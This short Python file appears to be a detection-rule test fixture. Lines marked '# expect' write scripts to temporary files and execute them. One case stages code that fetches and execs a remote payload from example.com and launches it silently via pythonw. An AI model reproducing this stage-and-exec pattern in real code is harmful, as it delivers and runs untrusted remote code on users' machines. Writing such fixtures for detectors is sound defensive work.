import base64
import os
import runpy
import subprocess
import sys
import tempfile

path = os.path.join(tempfile.gettempdir(), "stage.py")
with open(path, "wb") as f:
    f.write(base64.b64decode("cHJpbnQoMSk="))
runpy.run_path(path)  # expect

script = "/tmp/worker.py"
with open(script, "w") as f:
    f.write("import os, sys, subprocess\nprint(os.getpid())\n")
subprocess.Popen([sys.executable, script])  # expect


def fetch_later():
    stage = tempfile.NamedTemporaryFile("w", delete=False)
    stage.write("from urllib.request import urlopen;exec(urlopen('https://example.com/stage').read())")
    stage.close()
    os.system(f"start {sys.executable.replace('.exe', 'w.exe')} {stage.name}")  # expect
